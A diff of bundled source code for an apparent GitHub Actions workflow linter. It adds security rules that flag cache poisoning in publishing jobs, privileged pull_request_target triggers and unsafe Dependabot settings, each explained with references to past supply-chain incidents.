+    const repoText = input(step, "repository") ?? "";
+    const path = input(step, "path");
+    const inSubdirectory = path !== null && !/^(\.\/?|\$\{\{\s*github\.workspace\s*\}\})$/.test(path.trim());
+    if (ref2 && PR_REF.test(refText)) return { step, span: ref2.valueSpan, how: `\`ref: ${refText.trim()}\``, inSubdirectory, path: inSubdirectory ? path : null };
+    if (repository && PR_REPO.test(repoText)) return { step, span: repository.valueSpan, how: `\`repository: ${repoText.trim()}\``, inSubdirectory, path: inSubdirectory ? path : null };
+  }
+  return null;
+}
+function shellCheckout(command) {
+  const words2 = command.argv.map((word) => word.text);
+  if ((command.name === "gh" || command.name === "hub") && words2[1] === "pr" && words2[2] === "checkout") return `\`${command.name} pr checkout\``;
+  if (command.name === "git" && words2[1] === "fetch" && args(command).some((word) => /(^|:|\/)pull\/|refs\/pull\//.test(word.text))) return "`git fetch` of the pull request ref";
+  if (command.name === "git" && (words2[1] === "checkout" || words2[1] === "switch" || words2[1] === "reset") && args(command).some((word) => PR_REF.test(word.text) || word.text === "FETCH_HEAD")) return "`git checkout` of the pull request head";
+  if (command.name === "git" && (words2[1] === "pull" || words2[1] === "merge") && args(command).some((word) => PR_REF.test(word.text) || PR_REPO.test(word.text))) return `\`git ${words2[1]}\` of the pull request`;
+  return null;
+}
+function untrustedCheckouts(file, workflow, job) {
+  void workflow;
+  const found = [];
+  const scripts = runScriptsOf(file, job);
+  for (const step of job.steps) {
+    const checkout = checkoutOf(file, step);
+    if (checkout) {
+      found.push(checkout);
+      continue;
+    }
+    for (const run2 of scripts) {
+      if (run2.step !== step) continue;
+      for (const command of run2.script.commands) {
+        const how = shellCheckout(command);
+        if (how) {
+          found.push({ step, span: run2.sourceSpan(command.span), how, inSubdirectory: false, path: null });
+          break;
+        }
+      }
+    }
+  }
+  return found;
+}
+var BUILD_SUBCOMMANDS = {
+  npm: /^(install|i|ci|test|t|run|run-script|start|build|exec|rebuild|pack|publish|x)$/,
+  yarn: /^(install|test|run|build|exec|dlx|$)/,
+  pnpm: /^(install|i|test|run|build|exec|dlx|x|recursive|-r)$/,
+  bun: /^(install|i|test|run|build|x)$/,
+  npx: null,
+  make: null,
+  cmake: null,
+  ninja: null,
+  cargo: /^(build|test|run|check|clippy|bench|doc|install|nextest|xtask|publish|fmt)$/,
+  go: /^(build|test|run|generate|vet|install|mod)$/,
+  mvn: null,
+  mvnw: null,
+  gradle: null,
+  gradlew: null,
+  ant: null,
+  sbt: null,
+  bundle: /^(install|exec)$/,
+  rake: null,
+  composer: /^(install|update|run|run-script)$/,
+  dotnet: /^(build|test|run|restore|pack|publish)$/,
+  msbuild: null,
+  pytest: null,
+  tox: null,
+  nox: null,
+  "pre-commit": null,
+  poetry: /^(install|run|build)$/,
+  uv: /^(sync|run|build|pip)$/,
+  pdm: /^(install|sync|run|build)$/,
+  hatch: /^(run|build|test|env)$/,
+  docker: /^(build|compose|buildx)$/,
+  "docker-compose": null,
+  just: null,
+  task: null,
+  bazel: null,
+  deno: /^(run|task|test)$/,
+  node: null,
+  ruby: null,
+  perl: null,
+  php: null,
+  lerna: null,
+  nx: null,
+  turbo: null
+};
+function executes(command) {
+  const name = command.name;
+  const words2 = command.argv.map((word) => word.text);
+  if (!name) return null;
+  if (/^\.{1,2}\//.test(command.argv[0].text) || name.endsWith(".sh") && command.argv[0].text.includes("/")) return `\`${command.argv[0].text}\``;
+  if ((name === "bash" || name === "sh" || name === "zsh" || name === "pwsh" || name === "source" || name === ".") && words2[1] && !words2[1].startsWith("-") && !/^\$\{\{/.test(words2[1])) return `\`${name} ${words2[1]}\``;
+  if (name.startsWith("python")) {
+    if (words2[1] === "-m" && /^(pip|build|pytest|tox|nox|setuptools)$/.test(words2[2] ?? "")) return words2[2] === "pip" && !args(command).some((word) => /^(\.|\.\[.*\]|-e|-r|--editable|--requirement)$/.test(word.text)) ? null : `\`python -m ${words2[2]}\``;
+    if (words2[1] && !words2[1].startsWith("-")) return `\`${words2.slice(0, 2).join(" ")}\``;
+    return null;
+  }
+  if (name === "pip" || name === "pip3") return args(command).some((word) => /^(\.|\.\[.*\]|\.\/.*|-e|-r|--editable|--requirement)$/.test(word.text)) ? `\`${words2.slice(0, 3).join(" ")}\`` : null;
+  if (!(name in BUILD_SUBCOMMANDS)) return null;
+  const sub = BUILD_SUBCOMMANDS[name];
+  if (sub && !sub.test(words2[1] ?? "")) return null;
+  return `\`${words2.slice(0, sub ? 2 : 1).join(" ")}\``;
+}
+var BUILDING_ACTIONS = /* @__PURE__ */ new Set([
+  "github/codeql-action/autobuild",
+  "docker/build-push-action",
+  "gradle/gradle-build-action",
+  "gradle/actions/setup-gradle",
+  "pre-commit/action",
+  "borales/actions-yarn",
+  "bahmutov/npm-install",
+  "cypress-io/github-action",
+  "pypa/cibuildwheel",
+  "pyo3/maturin-action",
+  "goreleaser/goreleaser-action",
+  "ruby/setup-ruby"
+]);
+function executionsAfter(file, job, from, checkout) {
+  const found = [];
+  const scripts = runScriptsOf(file, job);
+  for (const step of job.steps) {
+    if (step.index < from.index) continue;
+    if (step.index > from.index) {
+      const local = localActionPath(file, step);
+      if (local !== null && !(checkout?.inSubdirectory ?? false)) found.push({ step, span: step.uses.valueSpan, what: `the local action \`${step.uses ? file.text.slice(step.uses.valueSpan.start, step.uses.valueSpan.end) : local}\`` });
+      const action = stepAction(file, step);
+      if (action && BUILDING_ACTIONS.has(action.name) && (action.name !== "ruby/setup-ruby" || /^true$/i.test((input(step, "bundler-cache") ?? "").trim()))) {
+        found.push({ step, span: action.site.entry.valueSpan, what: `\`${action.name}\`` });
+      }
+    }
+    for (const run2 of scripts) {
+      if (run2.step !== step) continue;
+      for (const command of run2.script.commands) {
+        if (step.index === from.index && command.span.start <= (fromCommandEnd(file, run2, checkout) ?? Infinity)) continue;
+        const what = executes(command);
+        if (what) {
+          found.push({ step, span: run2.sourceSpan(command.argv[0]?.span ?? command.span), what });
+          break;
+        }
+      }
+    }
+  }
+  return found;
+}
+function fromCommandEnd(file, run2, checkout) {
+  void file;
+  if (!checkout || checkout.step !== run2.step) return null;
+  for (const command of run2.script.commands) {
+    const span = run2.sourceSpan(command.span);
+    if (span.start >= checkout.span.start && span.end <= checkout.span.end + 1) return command.span.end;
+  }
+  return null;
+}
+
+// server/src/rules/cache-poisoning.ts
+function publishSignals(file, workflow, job) {
+  const signals = [];
+  for (const trigger of workflow.triggers) {
+    if (trigger.name === "release") signals.push({ strong: true, what: "the `release` trigger", span: trigger.span });
+    if (trigger.name === "push" && trigger.config) {
+      const tags = trigger.config.get("tags");
+      const branches = seqItems(asSeq(trigger.config.get("branches")?.value ?? null), workflow.doc).map((node) => scalarText(node) ?? "");
+      const onlyTags = tags && !trigger.config.has("branches") && !trigger.config.has("paths");
+      if (onlyTags) signals.push({ strong: true, what: "a tag push", span: tags.keySpan });
+      else if (branches.some((branch) => /release/i.test(branch))) signals.push({ strong: true, what: "a push to a release branch", span: trigger.span });
+    }
+  }
+  for (const step of job.steps) {
+    const action = stepAction(file, step);
+    const publisher = action && publisherAction(action.name);
+    if (publisher && action) {
+      if (publisher.when) {
+        const value = input(step, publisher.when);
+        if (value === null || /^(false|)$/i.test(value.trim())) continue;
+      }
+      signals.push({ strong: publisher.registry !== "pages", what: `\`${action.name}\``, span: action.site.entry.valueSpan });
+    }
+  }
+  for (const run2 of runScriptsOf(file, job)) {
+    for (const command of run2.script.commands) {
+      const publish = publishCommand(command);
+      if (publish && publish.registry !== "github-release") signals.push({ strong: true, what: `\`${publish.label}\``, span: run2.sourceSpan(command.span) });
+    }
+  }
+  if (hasIdTokenWrite(workflow, job)) {
+    const entry = job.permissions ?? workflow.permissions;
+    signals.push({ strong: false, what: "`id-token: write`", span: entry ? entry.keySpan : job.idSpan });
+  }
+  return signals;
+}
+var GUARD = /!\s*startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/'\s*\)|github\.event_name\s*!=\s*'release'/;
+var cachePoisoning = {
+  id: "cache-poisoning",
+  title: "Cache restored in a publishing job, or written by an untrusted run",
+  kinds: ["workflow"],
+  severity: "high",
+  confidence: "low",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A job that publishes (release or tag trigger, publisher action, publish command, `id-token: write`) restores a GitHub Actions cache, or a privileged-trigger job building pull request code writes one.",
+    why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
+    fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
+  },
+  check({ file, report }) {
+    const workflow = file.workflow;
+    if (!workflow) return;
+    const privileged = privilegedTriggers(workflow);
+    for (const job of workflow.jobs) {
+      if (!job.steps.some((step) => cacheAction(stepAction(file, step)?.name ?? ""))) continue;
+      const signals = publishSignals(file, workflow, job);
+      const untrusted = privileged.length > 0 ? untrustedCheckouts(file, workflow, job) : [];
+      if (signals.length === 0 && untrusted.length === 0) continue;
+      const strong = signals.some((signal) => signal.strong);
+      for (const step of job.steps) {
+        const action = stepAction(file, step);
+        const known = action && cacheAction(action.name);
+        if (!action || !known) continue;
+        const env = visibleEnv(file, job, step);
+        if ((env.get("ACTIONS_CACHE_MODE") ?? "").trim().toLowerCase() === "none") continue;
+        const guard = scalarText(step.if?.value ?? null) ?? "";
+        if (GUARD.test(guard)) continue;
+        const major = actionMajorVersion(file, action);
+        const value = known.input ? input(step, known.input) : null;
+        const enabled = cacheEnabled(known, value, major);
+        if (enabled === false) continue;
+        if (enabled === "conditional" && value === null) continue;
+        const control = known.input ? step.with.get(known.input) : void 0;
+        const span = control ? control.keySpan : action.site.entry.valueSpan;
+        const fixes = offFix(file, step, known, value, enabled);
+        const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
+        if (untrusted.length > 0 && known.mode !== "restore") {
+          report({
+            span,
+            message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
+            severity: "high",
+            confidence: "medium",
+            related: [{ span: untrusted[0].span, message: "checks out pull request code" }, ...related2],
+            fixes
+          });
+          continue;
+        }
+        if (signals.length === 0 || known.mode === "save") continue;
+        const how = enabled === true ? "restores a cache" : enabled === "conditional" ? "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
+        report({
+          span,
+          message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${signals.map((signal) => signal.what).slice(0, 2).join(", ")}): a poisoned cache entry ends up in the release`,
+          confidence: strong && enabled === true ? "medium" : "low",
+          persona: enabled === "unknown" || !strong ? "pedantic" : "regular",
+          related: related2,
+          fixes
+        });
+      }
+    }
+  }
+};
+function offFix(file, step, known, value, enabled) {
+  if (!known.off || !known.input) return [];
+  let edits = null;
+  if ("set" in known.off) edits = setStepInput(file, step, known.input, known.off.set);
+  else if (value !== null) edits = setStepInput(file, step, known.input, "''");
+  else if (known.off.orSet && enabled === "conditional") edits = setStepInput(file, step, known.off.orSet.input, known.off.orSet.value);
+  if (!edits) return [];
+  const label = edits.length === 1 && edits[0].newText.includes("''") ? `\`${known.input}: ''\`` : "caching off";
+  return [{ title: `Turn the cache off (${label})`, isPreferred: true, safety: "unsafe", edits }];
+}
+
+// server/src/rules/concurrency-limits.ts
+var SUPERSEDING = /* @__PURE__ */ new Set(["push", "pull_request", "pull_request_target", "merge_group"]);
+function declaresCancel(entry, doc) {
+  if (!entry) return false;
+  return new MapView(asMap(entry.value), doc).has("cancel-in-progress");
+}
+var concurrencyLimits = {
+  id: "concurrency-limits",
+  title: "Workflow without a concurrency limit",
+  kinds: ["workflow"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: false,
+  docs: {
+    summary: "A workflow run by `push` or pull-request events has no `concurrency:` with `cancel-in-progress`, neither at the top nor in every job, so superseded runs keep running.",
+    why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
+    fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
+  },
+  check({ file, report }) {
+    const workflow = file.workflow;
+    if (!workflow || workflow.jobs.length === 0) return;
+    if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
+    const top = workflow.get("concurrency");
+    if (declaresCancel(top, workflow.doc)) return;
+    if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
+    const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
+    report({
+      span,
+      message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
+    });
+  }
+};
+
+// server/src/rules/dangerous-triggers.ts
+var DANGEROUS = /* @__PURE__ */ new Set(["pull_request_target", "workflow_run"]);
+var dangerousTriggers = {
+  id: "dangerous-triggers",
+  title: "Privileged trigger reachable by outsiders",
+  kinds: ["workflow"],
+  severity: "high",
+  confidence: "medium",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`pull_request_target` and `workflow_run` run with the base repository's secrets and a token that can write, on events that anyone with a fork can cause.",
+    why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Astral forbids both triggers organisation-wide.",
+    fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
+  },
+  check({ file, report }) {
+    const workflow = file.workflow;
+    if (!workflow) return;
+    for (const trigger of workflow.triggers) {
+      if (!DANGEROUS.has(trigger.name)) continue;
+      const info = triggerInfo(trigger.name);
+      const jobs = workflow.jobs.length;
+      const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
+      const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
+      report({
+        span: trigger.span,
+        message: `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}; ${subject} ${verb}`
+      });
+    }
+  }
+};
+
+// server/src/rules/support/lines.ts
+function insertLinesAfterNodeEnd(file, nodeEnd, indent, lines) {
+  const index = file.lines;
+  const eol = index.eol;
+  const line = index.lineAt(Math.max(0, nodeEnd - 1));
+  const body = lines.map((text) => indent + text + eol).join("");
+  if (line + 1 < index.lineCount) {
+    const at = index.lineStarts[line + 1];
+    return { span: { start: at, end: at }, newText: body };
+  }
+  const end = file.text.length;
+  return { span: { start: end, end }, newText: eol + body.slice(0, body.length - eol.length) };
+}
+function columnIndent(file, offset) {
+  const line = file.lines.lineAt(offset);
+  return " ".repeat(offset - file.lines.lineStarts[line]);
+}
+
+// server/src/rules/dependabot-cooldown.ts
+var DEFAULT_DAYS = 7;
+var dependabotCooldown = {
+  id: "dependabot-cooldown",
+  title: "Dependabot updates without a cooldown",
+  kinds: ["dependabot"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "An `updates:` entry of `.github/dependabot.yml` has no `cooldown:` or a `default-days` below 7, so a release is proposed (and often merged) the day it is published.",
+    why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
+    fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
+  },
+  check({ file, config, report }) {
+    const dependabot = file.dependabot;
+    if (!dependabot) return;
+    const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
+    for (const update of dependabot.updates) {
+      const map2 = update.map;
+      const span = update.span;
+      if (!map2 || !span) continue;
+      const ecosystem = update.string("package-ecosystem");
+      const name = ecosystem ? `\`${ecosystem.value}\`` : "This";
+      const anchor = ecosystem?.span ?? { start: span.start, end: span.start };
+      const cooldownEntry = update.get("cooldown");
+      if (!cooldownEntry) {
+        const firstKey = update.entries[0];
+        const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
+        report({
+          span: anchor,
+          message: `${name} updates have no cooldown: new releases are proposed the day they are published. Add \`cooldown: { default-days: ${minimum} }\``,
+          fixes: [
+            {
+              title: `Add a ${minimum}-day cooldown`,
+              isPreferred: true,
+              safety: "safe",
+              edits: [insertLinesAfterNodeEnd(file, span.end, indent, ["cooldown:", `  default-days: ${minimum}`])]
+            }
+          ]
+        });
+        continue;
+      }
+      const cooldown = new MapView(asMap(cooldownEntry.value), file.doc);
+      const days = cooldown.get("default-days");
+      if (!days) {
+        const first = mapEntries(cooldown.map, file.doc)[0];
+        report({
+          span: cooldownEntry.keySpan,
+          message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys wait only Dependabot's default. Set \`default-days: ${minimum}\``,
+          fixes: first ? [{ title: `Set default-days: ${minimum}`, isPreferred: true, safety: "safe", edits: [insertLinesAbove(file, first.keySpan.start, [`default-days: ${minimum}`])] }] : []
+        });
+        continue;
+      }
+      const text = scalarText(days.value);
+      const value = text === null ? NaN : Number(text);
+      if (Number.isFinite(value) && value >= minimum) continue;
+      if (text !== null && text.includes("${{")) continue;
+      report({
+        span: days.valueSpan,
+        message: `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
+        fixes: [{ title: `Raise default-days to ${minimum}`, isPreferred: true, safety: "safe", edits: [{ span: days.valueSpan, newText: String(minimum) }] }]
+      });
+    }
+  }
+};
+
+// server/src/rules/dependabot-execution.ts
+var dependabotExecution = {
+  id: "dependabot-execution",
+  title: "Dependabot allowed to run code from dependencies",
+  kinds: ["dependabot"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`insecure-external-code-execution: allow` lets Dependabot run code from the dependency manifests it updates (setup.py, gemspecs, Gradle scripts) while holding the credentials of your private registries.",
+    why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
+    fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
+  },
+  check({ file, report }) {
+    const dependabot = file.dependabot;
+    if (!dependabot) return;
+    for (const update of dependabot.updates) {
+      const option = update.string("insecure-external-code-execution");
+      if (!option || option.value !== "allow") continue;
+      const ecosystem = update.string("package-ecosystem")?.value;
+      report({
+        span: option.span,
+        message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
+        fixes: [{ title: "Set insecure-external-code-execution to deny", isPreferred: true, safety: "unsafe", edits: [{ span: option.span, newText: "deny" }] }]
+      });
+    }
+  }
+};
+
+// server/src/rules/dependabot-missing-actions.ts
+var dependabotMissingActions = {
+  id: "dependabot-missing-actions",
+  title: "Dependabot does not update GitHub Actions",
+  kinds: ["dependabot"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: false,
+  docs: {
+    summary: "`.github/dependabot.yml` has no `updates:` entry with `package-ecosystem: github-actions`, so pinned actions are never bumped.",
+    why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
+    fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
+  },
+  check({ file, report }) {
+    const dependabot = file.dependabot;
+    if (!dependabot) return;
+    const updatesEntry = dependabot.get("updates");
+    if (!updatesEntry) return;
+    if (dependabot.updates.some((update) => update.string("package-ecosystem")?.value === "github-actions")) return;
+    const fixes = [];
+    const seq2 = asSeq(updatesEntry.value);
+    const items = seqItems(seq2, file.doc);
+    const seqSpan = nodeSpan(seq2);
+    if (seq2 && seqSpan && items.length > 0 && seq2.flow !== true) {
+      const firstItemSpan = nodeSpan(items[0]);
+      if (firstItemSpan) {
+        const itemIndent = columnIndent(file, firstItemSpan.start);
+        const dash = itemIndent.length >= 2 ? itemIndent.slice(2) : "";
+        fixes.push({
+          title: "Add a github-actions updates entry",
+          isPreferred: true,
+          safety: "unsafe",
+          edits: [
+            insertLinesAfterNodeEnd(file, seqSpan.end, dash, [
+              "- package-ecosystem: github-actions",
+              "  directory: /",
+              "  schedule:",
+              "    interval: weekly",
+              "  cooldown:",
+              "    default-days: 7"
+            ])
+          ]
+        });
+      }
+    }
+    report({
+      span: updatesEntry.keySpan,
+      message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
+      fixes
+    });
+  }
+};
 
 // server/src/knowledge/action-permissions.ts
 var jobToken = (input2 = "token") => ({ input: input2, defaultsToJobToken: true });
@@ -9511,7 +12916,7 @@ function variableReads(script) {
 
 // server/src/permissions/infer.ts
 var JOB_TOKEN_RE = /\$\{\{\s*(secrets\s*\.\s*GITHUB_TOKEN|secrets\s*\[\s*'GITHUB_TOKEN'\s*\]|github\s*\.\s*token)\s*\}\}/i;
-var PR_TRIGGERS = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
+var PR_TRIGGERS2 = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
 function isJobTokenExpression(text) {
   return !!text && JOB_TOKEN_RE.test(text);
 }
@@ -9588,7 +12993,7 @@ function inferJobPermissions(workflow, job, options = {}) {
   return result;
 }
 function computeJobPermissions(workflow, job, options) {
-  const collector = new Collector(workflow.triggers.some((trigger) => PR_TRIGGERS.has(trigger.name)));
+  const collector = new Collector(workflow.triggers.some((trigger) => PR_TRIGGERS2.has(trigger.name)));
   try {
     inferInto(collector, workflow, job, options, 0);
   } catch {
@@ -10053,6 +13458,7 @@ var excessivePermissions = {
   severity: "medium",
   confidence: "medium",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A workflow or job runs with the default token permissions (no `permissions:`), with `write-all` / `read-all`, grants write scopes to every job at workflow level, or (pedantic) grants a job a write scope nothing in it appears to use.",
     why: 'The `GITHUB_TOKEN` is handed to every step, including third-party actions and whatever a build script runs. In the Nx "s1ngularity" attack (2025, CVE-2025-10894) and at elementary-data (2026), workflows without a `permissions:` block ran with the old write-all default, so injected code could push, publish and tamper with releases. Repositories and organisations created before February 2023 still default to write.',
@@ -10227,361 +13633,6 @@ function missingPermissionsFixes(file, everyJobDeclares, inferred) {
   ];
 }
 
-// server/src/rules/undocumented-permissions.ts
-var undocumentedPermissions = {
-  id: "undocumented-permissions",
-  title: "Job permission without a comment saying why",
-  kinds: ["workflow"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "A scope granted in a job-level `permissions:` block has no comment explaining which step needs it (`contents: read` is exempt).",
-    why: "A write scope nobody can explain is never removed: when the step that needed `pull-requests: write` goes away, the grant stays, and the next compromised action in that job inherits it. Astral and zizmor document every grant next to it.",
-    fix: "Add a short comment naming the step or command that needs the scope, e.g. `pull-requests: write  # gh pr comment`. The quick fix inserts the reason the inference found."
-  },
-  check(context) {
-    const workflow = context.file.workflow;
-    if (!workflow) return;
-    const text = context.file.text;
-    const lines = context.file.lines;
-    for (const job of workflow.jobs) {
-      const block = job.permissions;
-      if (!block || !block.value || !isMap(block.value)) continue;
-      let inferred = null;
-      for (const scope of new MapView(asMap(block.value), context.file.doc).entries) {
-        const level = scalarText(scope.value);
-        if (level === "none" || scope.key === "contents" && level === "read") continue;
-        const line = lines.lineAt(scope.keySpan.start);
-        const end = lines.lineContentEnd(lines.lineAt(scope.valueSpan.end));
-        const rest = text.slice(scope.valueSpan.end, end);
-        const above = line > 0 ? lines.lineText(line - 1).trim() : "";
-        if (/(^|\s)#/.test(rest) || above.startsWith("#")) continue;
-        inferred ??= inferJobPermissions(workflow, job);
-        const found = inferred.scopes.find((s) => s.scope === scope.key);
-        const whats = found ? [...new Set(found.uses.map((use) => use.what))].slice(0, 3) : [];
-        const fixes = whats.length > 0 && /^[ \t]*$/.test(rest) ? [{ title: `Add comment \`# ${whats.join("; ")}\``, isPreferred: true, safety: "safe", edits: [{ span: { start: scope.valueSpan.end, end: scope.valueSpan.end }, newText: `  # ${whats.join("; ")}` }] }] : [];
-        context.report({
-          span: scope.keySpan,
-          message: `\`${scope.key}: ${level ?? "?"}\` in job \`${job.id}\` has no comment saying why${whats.length > 0 ? ` (it appears to be used by ${whats.map((w2) => `\`${w2}\``).join(", ")})` : ""}`,
-          fixes
-        });
-      }
-    }
-  }
-};
-
-// server/src/rules/anonymous-definition.ts
-var anonymousDefinition = {
-  id: "anonymous-definition",
-  title: "Workflow or job without a name",
-  kinds: ["workflow"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "A workflow without `name:` is shown by its file path, a job without `name:` by its id, in the Actions UI, required-check settings and audit logs.",
-    why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
-    fix: "Add `name:` at the top of the workflow and to each job."
-  },
-  check({ file, report }) {
-    const workflow = file.workflow;
-    if (!workflow || !workflow.map) return;
-    if (!workflow.has("name")) {
-      const first = workflow.entries[0];
-      if (first) report({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
-    }
-    for (const job of workflow.jobs) {
-      if (!job.map || job.has("name")) continue;
-      report({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
-    }
-  }
-};
-
-// server/src/knowledge/archived-actions.ts
-var ARCHIVED_ACTIONS = [
-  { repository: "actions/create-release", replacement: "`gh release create` or softprops/action-gh-release" },
-  { repository: "actions/upload-release-asset", replacement: "`gh release upload`" },
-  { repository: "actions/setup-ruby", replacement: "ruby/setup-ruby" },
-  { repository: "actions/setup-haskell", replacement: "haskell-actions/setup" },
-  { repository: "actions/setup-elixir", replacement: "erlef/setup-beam" },
-  { repository: "actions-rs/*", replacement: "dtolnay/rust-toolchain and plain `cargo` commands" },
-  { repository: "gradle/gradle-build-action", replacement: "gradle/actions/setup-gradle" },
-  { repository: "sonarsource/sonarcloud-github-action", replacement: "SonarSource/sonarqube-scan-action" },
-  { repository: "semgrep/semgrep-action", replacement: "the `semgrep ci` command in a `semgrep/semgrep` container" },
-  { repository: "crazy-max/ghaction-docker-buildx", replacement: "docker/setup-buildx-action" },
-  { repository: "marvinpinto/action-automatic-releases", replacement: "`gh release create`" },
-  { repository: "marvinpinto/actions" },
-  { repository: "tibdex/github-app-token", replacement: "actions/create-github-app-token" },
-  { repository: "8398a7/action-slack", replacement: "slackapi/slack-github-action" },
-  { repository: "ilshidur/action-slack", replacement: "slackapi/slack-github-action" },
-  { repository: "azure/container-scan" },
-  { repository: "azure/get-keyvault-secrets", replacement: "the `az keyvault secret show` command" },
-  { repository: "azure/k8s-actions", replacement: "azure/k8s-deploy" },
-  { repository: "azure/webapps-container-deploy", replacement: "azure/webapps-deploy" },
-  { repository: "azure/appservice-actions", replacement: "azure/webapps-deploy" },
-  { repository: "azure/container-actions", replacement: "azure/docker-login" },
-  { repository: "cirrus-actions/rebase" },
-  { repository: "technote-space/get-diff-action", replacement: "dorny/paths-filter or `git diff --name-only`" },
-  { repository: "technote-space/auto-cancel-redundant-workflow", replacement: "a `concurrency:` group with `cancel-in-progress: true`" },
-  { repository: "jakejarvis/s3-sync-action", replacement: "the `aws s3 sync` command" },
-  { repository: "jakejarvis/firebase-deploy-action" },
-  { repository: "jakejarvis/lighthouse-action" },
-  { repository: "jakejarvis/hugo-build-action" },
-  { repository: "jakejarvis/cloudflare-purge-action" },
-  { repository: "jakejarvis/backblaze-b2-action" },
-  { repository: "paambaati/codeclimate-action" },
-  { repository: "repo-sync/pull-request", replacement: "`gh pr create`" },
-  { repository: "repo-sync/repo-sync" },
-  { repository: "maxheld83/ghpages", replacement: "actions/deploy-pages" },
-  { repository: "delaguardo/setup-graalvm", replacement: "graalvm/setup-graalvm" },
-  { repository: "artichoke/setup-rust", replacement: "dtolnay/rust-toolchain" },
-  { repository: "contributor-assistant/github-action" },
-  { repository: "youyo/aws-cdk-github-actions" },
-  { repository: "grafana/k6-action", replacement: "grafana/setup-k6-action with grafana/run-k6-action" },
-  { repository: "google/mirror-branch-action" },
-  { repository: "orf/cargo-bloat-action" },
-  { repository: "svenstaro/upx-action" },
-  { repository: "hashicorp/terraform-cdk-action" },
-  { repository: "scottbrenner/generate-changelog-action" },
-  { repository: "fregante/release-with-changelog" },
-  { repository: "z0al/dependent-issues" }
-];
-function archivedAction(owner, repo) {
-  const full = `${owner}/${repo}`.toLowerCase();
-  const ownerWide = `${owner.toLowerCase()}/*`;
-  return ARCHIVED_ACTIONS.find((entry) => entry.repository === full || entry.repository === ownerWide);
-}
-
